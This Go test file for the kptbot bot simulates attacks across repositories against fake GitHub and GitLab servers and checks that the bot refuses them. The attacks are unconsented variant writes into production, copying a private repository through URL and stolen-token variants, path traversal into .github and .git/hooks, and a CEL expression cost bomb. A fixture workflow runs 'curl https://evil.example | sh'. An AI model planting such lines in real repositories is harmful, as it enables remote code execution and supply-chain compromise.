package server

import (
	"context"
	"fmt"
	"net/http"
	"strings"
	"testing"

	"github.com/kptbot/kptbot/bot"
	"github.com/kptbot/kptbot/forge"
)

// Attacks across repositories, through signed webhook deliveries into the
// server, against the httptest GitHub (real git over HTTP): a
// PackageVariantSet in one repository writing into another that did not
// consent, and a PackageVariant copying a private repository into its
// requester's.

const pwnKptfile = `apiVersion: kpt.dev/v1
kind: Kptfile
metadata:
  name: pwn
`

// pwnWorkflow is a GitHub workflow that is also a KRM resource, so it
// renders as part of a package.
const pwnWorkflow = `apiVersion: v1
kind: ConfigMap
metadata: {name: pwn}
name: pwn
on: push
jobs:
  x:
    runs-on: ubuntu-latest
    steps: [{run: "curl https://evil.example | sh"}]
`

// ghRepoFields describes r in a GitHub payload.
func (w *ghWorld) repoFields(r forge.Repo) map[string]any {
	owner, name, _ := strings.Cut(r.FullName, "/")
	return map[string]any{"repository.id": w.gh.RepoID(r), "repository.full_name": r.FullName, "repository.name": name, "repository.owner.login": owner, "repository.owner.name": owner,
		"repository.clone_url": w.gh.GitURL + r.FullName + ".git", "repository.default_branch": "main"}
}

// pushEvent delivers a signed push of ref (a branch or a tag) at sha in r,
// by who, and fails the test unless it was queued.
func (w *ghWorld) pushEvent(r forge.Repo, ref, sha, who string) {
	w.t.Helper()
	set := w.repoFields(r)
	set["ref"], set["after"], set["before"], set["created"], set["deleted"], set["sender.login"] = ref, sha, forge.ZeroSHA, strings.HasPrefix(ref, "refs/tags/"), false, who
	if st := w.deliver(0, "push", w.id(), w.payload("push/tag-created.ghes.payload.json", set)); st != http.StatusAccepted {
		w.t.Fatalf("push of %s to %s: HTTP %d", ref, r.FullName, st)
	}
}

// commit pushes files onto r's main as its owner would, and delivers the
// push.
func (w *ghWorld) commit(r forge.Repo, files map[string][]byte) string {
	w.t.Helper()
	c := w.client()
	ctx := context.Background()
	bs, err := c.ListBranches(ctx, r)
	if err != nil {
		w.t.Fatal(err)
	}
	var tip string
	for _, b := range bs {
		if b.Name == "main" {
			tip = b.SHA
		}
	}
	sha, err := c.PushFiles(ctx, r, "main", tip, tip, files, "edit")
	if err != nil {
		w.t.Fatal(err)
	}
	w.pushEvent(r, "refs/heads/main", sha, "alice")
	return sha
}

func (w *ghWorld) tag(r forge.Repo, name, sha string) {
	w.t.Helper()
	if err := w.client().CreateTag(context.Background(), r, name, sha, name); err != nil {
		w.t.Fatal(err)
	}
	w.pushEvent(r, "refs/tags/"+name, sha, "alice")
}

// untouched fails the test when r has anything but its main branch, an
// open or merged pull request, or a file under .github on main.
func (w *ghWorld) untouched(r forge.Repo) {
	w.t.Helper()
	ctx := context.Background()
	c := w.client()
	bs, _ := c.ListBranches(ctx, r)
	if len(bs) != 1 || bs[0].Name != "main" {
		w.t.Errorf("%s: branches %+v, want main only", r.FullName, bs)
	}
	if cs, _ := c.ListOpenChanges(ctx, r); len(cs) != 0 {
		w.t.Errorf("%s: open changes %+v, want none", r.FullName, cs)
	}
	if m := w.gh.Merges(r); m != 0 {
		w.t.Errorf("%s: %d merges, want none", r.FullName, m)
	}
	if snap, err := c.ReadTree(ctx, r, "main", ".github"); err == nil && len(snap.Files) > 0 {
		w.t.Errorf("%s: .github on main holds %v", r.FullName, snap.Files)
	}
}

// dashboardOf is r's dashboard issue body ("" when it has none).
func (w *ghWorld) dashboardOf(r forge.Repo) string {
	w.t.Helper()
	is, err := w.client().ListIssues(context.Background(), r, bot.DashboardLabel)
	if err != nil {
		w.t.Fatal(err)
	}
	if len(is) == 0 {
		return ""
	}
	return is[0].Body
}

// TestAttackVariantSetWithoutConsent: a PackageVariantSet in a sandbox
// repository targets a production repository requiring two approvals,
// asks for updatePolicy publish and adoptExisting, and names paths into
// .github. Nothing reaches production until production's own kptbot.yaml
// accepts the sandbox; then the variant is proposed (production's policy,
// not the set's publish), production's own package is not adopted, and
// dot-directory or escaping paths stay refused.
func TestAttackVariantSetWithoutConsent(t *testing.T) {
	t.Parallel()
	w := newGHWorld(t, 1)
	prod := forge.Repo{Forge: forge.GitHub, FullName: "acme/prod", DefaultBranch: "main"}
	sandbox := forge.Repo{Forge: forge.GitHub, FullName: "acme/sandbox", DefaultBranch: "main"}
	prodCfg := "apiVersion: kptbot.dev/v1alpha1\nkind: Repository\nmetadata: {name: prod}\nspec:\n  approvals: {minimum: 2}\n"
	w.gh.Seed(prod, "main", map[string][]byte{"kptbot.yaml": []byte(prodCfg), "app/Kptfile": []byte(strings.Replace(pwnKptfile, "pwn", "app", 1)), "app/cm.yaml": []byte(configMap)})
	set := `apiVersion: kptbot.dev/v1alpha1
kind: PackageVariantSet
metadata: {name: takeover}
spec:
  upstream: {repo: acme/sandbox, package: pwn}
  targets:
    - repositories: [{name: acme/prod, packageNames: [ci, app]}]
      template: {updatePolicy: publish, adoptionPolicy: adoptExisting}
`
	sha := w.gh.Seed(sandbox, "main", map[string][]byte{"kptbot.yaml": []byte(set), "pwn/Kptfile": []byte(pwnKptfile), "pwn/workflows/pwn.yml": []byte(pwnWorkflow)})
	w.pushEvent(sandbox, "refs/heads/main", sha, "mallory")
	w.tag(sandbox, "pwn/v1", sha)
	w.pushEvent(prod, "refs/heads/main", w.mainOf(prod), "alice") // production reconciles too
	w.untouched(prod)
	if d := w.dashboardOf(sandbox); !strings.Contains(d, "PackageVariantSet takeover targets acme/prod, which does not accept variants from acme/sandbox") {
		t.Errorf("the sandbox's dashboard does not say why: %s", d)
	}

	// Production consents: one proposal for the new package, not merged
	// (production's updatePolicy, propose, not the set's publish); its
	// own package app is not adopted (adoptNone, not the set's wish).
	w.commit(prod, map[string][]byte{"kptbot.yaml": []byte(prodCfg + "  acceptVariantsFrom: [acme/sandbox]\n")})
	if w.gh.Merges(prod) != 0 {
		t.Fatal("the set's updatePolicy publish merged into production")
	}
	cs, err := w.client().ListOpenChanges(context.Background(), prod)
	if err != nil || len(cs) != 1 || cs[0].HeadRef != "drafts/ci/kptbot-update" {
		t.Fatalf("after consent: open changes %+v, %v; want one for ci (app is production's own, not adopted)", cs, err)
	}

	// A consented set still cannot write into a dot-directory or out of
	// the package directory, whatever expression it uses.
	for i, expr := range []string{`'.github'`, `'.github/workflows'`, `'ci/../.github'`, `'/abs'`, `'ci/.git/hooks'`} {
		bad := fmt.Sprintf("%s---\napiVersion: kptbot.dev/v1alpha1\nkind: PackageVariantSet\nmetadata: {name: paths-%d}\nspec:\n  upstream: {repo: acme/sandbox, package: pwn}\n  targets:\n    - repositories: [{name: acme/prod}]\n      template:\n        downstream: {packageExpr: %q}\n", set, i, expr)
		sha := w.commit(sandbox, map[string][]byte{"kptbot.yaml": []byte(bad)})
		if d := w.dashboardOf(sandbox); !strings.Contains(d, fmt.Sprintf("PackageVariantSet paths-%d: spec.targets[0]: the downstream package", i)) {
			t.Errorf("packageExpr %s: the sandbox's dashboard does not report the set: %s", expr, d)
		}
		w.tag(sandbox, fmt.Sprintf("pwn/v%d", i+2), sha)
		w.pushEvent(prod, "refs/heads/main", w.mainOf(prod), "alice")
		if cs, _ := w.client().ListOpenChanges(context.Background(), prod); len(cs) != 1 || cs[0].HeadRef != "drafts/ci/kptbot-update" {
			t.Errorf("packageExpr %s: open changes %+v, want only ci's", expr, cs)
		}
	}
	if snap, err := w.client().ReadTree(context.Background(), prod, "main", ".github"); err == nil && len(snap.Files) > 0 {
		t.Errorf("production's .github: %v", snap.Files)
	}
	bs, _ := w.client().ListBranches(context.Background(), prod)
	for _, b := range bs {
		if strings.Contains(b.Name, ".git") || strings.Contains(b.Name, "app") {
			t.Errorf("production has branch %s", b.Name)
		}
	}
}

func (w *ghWorld) mainOf(r forge.Repo) string {
	w.t.Helper()
	bs, err := w.client().ListBranches(context.Background(), r)
	if err != nil {
		w.t.Fatal(err)
	}
	for _, b := range bs {
		if b.Name == "main" {
			return b.SHA
		}
	}
	w.t.Fatalf("%s has no main", r.FullName)
	return ""
}

// TestAttackPrivateUpstreamAcrossOwners: mallory's repository follows a
// private repository of another owner, by name and by URL variants; the
// bot copies nothing, on her push or on the upstream's release, and says
// why on her dashboard. The same owner's repository, and one the
// upstream's kptbot.yaml lists in allowedDownstreams, do get the package.
func TestAttackPrivateUpstreamAcrossOwners(t *testing.T) {
	t.Parallel()
	w := newGHWorld(t, 1)
	jewels := forge.Repo{Forge: forge.GitHub, FullName: "secret/jewels", DefaultBranch: "main"}
	share := "apiVersion: kptbot.dev/v1alpha1\nkind: Repository\nmetadata: {name: jewels}\nspec:\n  allowedDownstreams: [partner/site]\n"
	sha := w.gh.Seed(jewels, "main", map[string][]byte{"kptbot.yaml": []byte(share), "keys/Kptfile": []byte(strings.Replace(pwnKptfile, "pwn", "keys", 1)),
		"keys/secret.yaml": []byte("apiVersion: v1\nkind: Secret\nmetadata: {name: root}\nstringData: {password: hunter2}\n")})
	w.gh.SetPrivate(jewels, true)
	if err := w.client().CreateTag(context.Background(), jewels, "keys/v1", sha, "v1"); err != nil {
		t.Fatal(err)
	}
	follow := func(name, repo string) string {
		return fmt.Sprintf("---\napiVersion: kptbot.dev/v1alpha1\nkind: PackageVariant\nmetadata: {name: %s}\nspec:\n  upstream: {repo: %q, package: keys}\n  downstream: {package: %s}\n", name, repo, name)
	}
	host := strings.TrimPrefix(strings.TrimPrefix(w.gh.GitURL, "http://"), "https://")
	loot := forge.Repo{Forge: forge.GitHub, FullName: "mallory/loot", DefaultBranch: "main"}
	variants := []string{
		"secret/jewels",
		"SECRET/Jewels",
		w.gh.GitURL + "secret/jewels.git",
		w.gh.GitURL + "Secret/Jewels.git/",
		"http://x-access-token:stolen@" + host + "secret/jewels",
		"HTTP://" + strings.ToUpper(strings.TrimSuffix(host, "/")) + "/secret/jewels/",
	}
	var cfg strings.Builder
	for i, ref := range variants {
		cfg.WriteString(follow(fmt.Sprintf("k%d", i), ref))
	}
	lootSHA := w.gh.Seed(loot, "main", map[string][]byte{"kptbot.yaml": []byte(cfg.String())})
	w.pushEvent(loot, "refs/heads/main", lootSHA, "mallory")
	w.untouched(loot)
	d := w.dashboardOf(loot)
	for i := range variants {
		if !strings.Contains(d, fmt.Sprintf("variant k%d: upstream not shared with this repository: secret/jewels is not public and not owned by mallory", i)) {
			t.Errorf("the refusal of k%d (%s) is not on mallory's dashboard:\n%s", i, variants[i], d)
		}
	}
	if strings.Contains(d, "hunter2") {
		t.Fatal("the private content reached mallory's dashboard")
	}

	// The same owner's repository and the listed partner follow too; a
	// release reaches them and not mallory.
	site := forge.Repo{Forge: forge.GitHub, FullName: "secret/site", DefaultBranch: "main"}
	partner := forge.Repo{Forge: forge.GitHub, FullName: "partner/site", DefaultBranch: "main"}
	w.pushEvent(site, "refs/heads/main", w.gh.Seed(site, "main", map[string][]byte{"kptbot.yaml": []byte(follow("keys", "secret/jewels"))}), "alice")
	w.pushEvent(partner, "refs/heads/main", w.gh.Seed(partner, "main", map[string][]byte{"kptbot.yaml": []byte(follow("keys", w.gh.GitURL+"secret/jewels.git"))}), "alice")
	v2, err := w.client().PushFiles(context.Background(), jewels, "main", sha, sha, map[string][]byte{"keys/more.yaml": []byte("apiVersion: v1\nkind: ConfigMap\nmetadata: {name: more}\n")}, "v2")
	if err != nil {
		t.Fatal(err)
	}
	w.tag(jewels, "keys/v2", v2)
	for _, r := range []forge.Repo{site, partner} {
		cs, err := w.client().ListOpenChanges(context.Background(), r)
		if err != nil || len(cs) != 1 || !strings.Contains(cs[0].Title, "clone") || !strings.Contains(cs[0].Title, "v2") {
			t.Errorf("%s: open changes %+v, %v; want the clone of v2 it may read", r.FullName, cs, err)
		}
	}
	w.untouched(loot)

	// Made public, the upstream is anyone's to copy.
	w.gh.SetPrivate(jewels, false)
	if err := w.nodes[0].bot.RefreshIndex(context.Background()); err != nil { // a resync's listing
		t.Fatal(err)
	}
	w.pushEvent(loot, "refs/heads/main", w.mainOf(loot), "mallory")
	if cs, _ := w.client().ListOpenChanges(context.Background(), loot); len(cs) != len(variants) {
		t.Errorf("public upstream: mallory's open changes %d, want %d", len(cs), len(variants))
	}
}

// TestAttackCELCost: a set whose template expression would loop a
// million times is pushed (a signed push delivery); the bot stops it at
// the cost limit, keeps serving, and tells the set's repository which
// set and field.
func TestAttackCELCost(t *testing.T) {
	t.Parallel()
	w := newGHWorld(t, 1)
	sandbox := forge.Repo{Forge: forge.GitHub, FullName: "acme/sandbox", DefaultBranch: "main"}
	digits := "[0,1,2,3,4,5,6,7,8,9]"
	heavy := "a"
	for _, v := range []string{"f", "e", "d", "c", "b", "a"} {
		heavy = digits + ".map(" + v + ", " + heavy + ")"
	}
	heavy = strings.Replace(heavy, ", a)", ", string(a+b+c+d+e+f))", 1)
	set := fmt.Sprintf("apiVersion: kptbot.dev/v1alpha1\nkind: PackageVariantSet\nmetadata: {name: spin}\nspec:\n  upstream: {repo: acme/sandbox, package: pwn}\n  targets:\n    - repositories: [{name: acme/sandbox, packageNames: [x]}]\n      template:\n        labelExprs: [{key: k, valueExpr: %q}]\n", "string("+heavy+".size())")
	sha := w.gh.Seed(sandbox, "main", map[string][]byte{"kptbot.yaml": []byte(set), "pwn/Kptfile": []byte(pwnKptfile)})
	w.pushEvent(sandbox, "refs/heads/main", sha, "mallory")
	if d := w.dashboardOf(sandbox); !strings.Contains(d, "PackageVariantSet spin: spec.targets[0]: template.labelExprs[0].valueExpr: ") || !strings.Contains(d, "exceeds the cost limit") {
		t.Errorf("the sandbox's dashboard does not report the expression: %s", d)
	}
	// The bot still serves: a lifecycle on another repository works.
	n, head := w.openHumanDraft("dana")
	if c, ok := w.gh.Check(w.repo, head, "kptbot/pkgs/ns"); !ok || c.Conclusion != "success" {
		t.Errorf("after the expression: check on #%d = %+v, %v", n, c, ok)
	}
}

// projectFields describes project r in a GitLab payload.
func (w *glWorld) projectFields(r forge.Repo) map[string]any {
	id, url, web := w.gl.ProjectID(r), w.gl.CloneURL(r), "https://gitlab.example/"+r.FullName
	ns, name := r.FullName[:strings.LastIndex(r.FullName, "/")], r.FullName[strings.LastIndex(r.FullName, "/")+1:]
	ssh := "git@gitlab.example:" + r.FullName + ".git"
	return map[string]any{"project_id": id, "project.id": id, "project.path_with_namespace": r.FullName, "project.name": name, "project.namespace": ns,
		"project.git_http_url": url, "project.http_url": url, "project.url": ssh, "project.git_ssh_url": ssh, "project.ssh_url": ssh,
		"project.web_url": web, "project.homepage": web, "project.default_branch": "main"}
}

// pushHook delivers GitLab's push (or tag push) hook for ref at sha in r.
func (w *glWorld) pushHook(r forge.Repo, ref, sha, who string) {
	w.t.Helper()
	file, hook := "push.json", "Push Hook"
	if strings.HasPrefix(ref, "refs/tags/") {
		file, hook = "tag_push.json", "Tag Push Hook"
	}
	set := merge(w.projectFields(r), map[string]any{"ref": ref, "after": sha, "checkout_sha": sha, "before": forge.ZeroSHA,
		"user_username": who, "user_name": who, "user_id": w.gl.UserID(who)})
	if st := w.deliver(hook, w.key(), glHookSecret, w.payload(file, set)); st != http.StatusAccepted {
		w.t.Fatalf("%s of %s to %s: HTTP %d", hook, ref, r.FullName, st)
	}
}

// untouched fails the test when project r has a branch besides main, a
// merge request or a merge.
func (w *glWorld) untouched(r forge.Repo) {
	w.t.Helper()
	ctx := context.Background()
	c := w.client()
	if bs, _ := c.ListBranches(ctx, r); len(bs) != 1 || bs[0].Name != "main" {
		w.t.Errorf("%s: branches %+v, want main only", r.FullName, bs)
	}
	if mrs, _ := c.ListOpenChanges(ctx, r); len(mrs) != 0 {
		w.t.Errorf("%s: open merge requests %+v, want none", r.FullName, mrs)
	}
	if m := w.gl.Merges(r); m != 0 {
		w.t.Errorf("%s: %d merges, want none", r.FullName, m)
	}
}

// TestAttackGitLabAcrossGroups is both attacks on GitLab, through its
// hooks: a set in mallory's sandbox targets acme/sites/edge-1, which did
// not consent; mallory's project follows a private project of another
// top-level group, by path and by URL. Neither writes nor copies; a
// project of the upstream's own group follows it.
func TestAttackGitLabAcrossGroups(t *testing.T) {
	t.Parallel()
	w := newGLWorld(t)
	ctx := context.Background()
	c := w.client()
	follow := func(name, repo string) string {
		return fmt.Sprintf("---\napiVersion: kptbot.dev/v1alpha1\nkind: PackageVariant\nmetadata: {name: %s}\nspec:\n  upstream: {repo: %q, package: keys}\n  downstream: {package: %s}\n", name, repo, name)
	}
	sandbox := forge.Repo{Forge: forge.GitLab, FullName: "mallory/sandbox", DefaultBranch: "main"}
	jewels := forge.Repo{Forge: forge.GitLab, FullName: "secret/vault/jewels", DefaultBranch: "main"}
	loot := forge.Repo{Forge: forge.GitLab, FullName: "mallory/loot", DefaultBranch: "main"}
	site := forge.Repo{Forge: forge.GitLab, FullName: "secret/sites/site", DefaultBranch: "main"}
	set := `apiVersion: kptbot.dev/v1alpha1
kind: PackageVariantSet
metadata: {name: takeover}
spec:
  upstream: {repo: mallory/sandbox, package: pwn}
  targets:
    - repositories: [{name: acme/sites/edge-1, packageNames: [ci]}]
      template: {updatePolicy: publish}
`
	sha := w.gl.Seed(sandbox, "main", map[string][]byte{"kptbot.yaml": []byte(set), "pwn/Kptfile": []byte(pwnKptfile), "pwn/workflows/pwn.yml": []byte(pwnWorkflow)})
	w.gl.SetVisibility(sandbox, "public") // readable by anyone: consent alone must stop it
	jsha := w.gl.Seed(jewels, "main", map[string][]byte{"keys/Kptfile": []byte(strings.Replace(pwnKptfile, "pwn", "keys", 1)),
		"keys/secret.yaml": []byte("apiVersion: v1\nkind: Secret\nmetadata: {name: root}\nstringData: {password: hunter2}\n")})
	refs := []string{"secret/vault/jewels", "Secret/Vault/Jewels", w.gl.CloneURL(jewels), strings.Replace(w.gl.CloneURL(jewels), "://", "://oauth2:stolen@", 1)}
	var cfg strings.Builder
	for i, ref := range refs {
		cfg.WriteString(follow(fmt.Sprintf("k%d", i), ref))
	}
	lootSHA := w.gl.Seed(loot, "main", map[string][]byte{"kptbot.yaml": []byte(cfg.String())})
	siteSHA := w.gl.Seed(site, "main", map[string][]byte{"kptbot.yaml": []byte(follow("keys", "secret/vault/jewels"))})
	for _, tag := range []struct {
		r        forge.Repo
		name, at string
	}{{sandbox, "pwn/v1", sha}, {jewels, "keys/v1", jsha}} {
		if err := c.CreateTag(ctx, tag.r, tag.name, tag.at, "v1"); err != nil {
			t.Fatal(err)
		}
	}

	// The set: nothing reaches edge-1, on the sandbox's push, its
	// release, or edge-1's own reconcile.
	w.pushHook(sandbox, "refs/heads/main", sha, "mallory")
	w.pushHook(sandbox, "refs/tags/pwn/v1", sha, "mallory")
	bs, _ := c.ListBranches(ctx, w.repo)
	w.pushHook(w.repo, "refs/heads/main", bs[0].SHA, "alice")
	w.untouched(w.repo)

	// The private upstream: nothing copied, and mallory is told why. A
	// push hook of the upstream (GitLab's carries no visibility) must
	// not make it look public.
	w.pushHook(jewels, "refs/heads/main", jsha, "alice")
	w.pushHook(loot, "refs/heads/main", lootSHA, "mallory")
	w.pushHook(jewels, "refs/tags/keys/v1", jsha, "alice")
	w.untouched(loot)
	is, err := c.ListIssues(ctx, loot, bot.DashboardLabel)
	if err != nil || len(is) != 1 {
		t.Fatalf("mallory's dashboard: %+v, %v", is, err)
	}
	if strings.Contains(is[0].Body, "hunter2") {
		t.Fatal("the private content reached mallory's dashboard")
	}
	for i := range refs {
		if !strings.Contains(is[0].Body, fmt.Sprintf("variant k%d: upstream not shared with this repository: secret/vault/jewels is not public and not owned by mallory", i)) {
			t.Errorf("the refusal of k%d (%s) is not on mallory's dashboard:\n%s", i, refs[i], is[0].Body)
		}
	}

	// A project of the upstream's own top-level group may follow it.
	w.pushHook(site, "refs/heads/main", siteSHA, "alice")
	if mrs, err := c.ListOpenChanges(ctx, site); err != nil || len(mrs) != 1 || !strings.Contains(mrs[0].Title, "clone") {
		t.Errorf("secret/sites/site: merge requests %+v, %v; want its clone", mrs, err)
	}
}
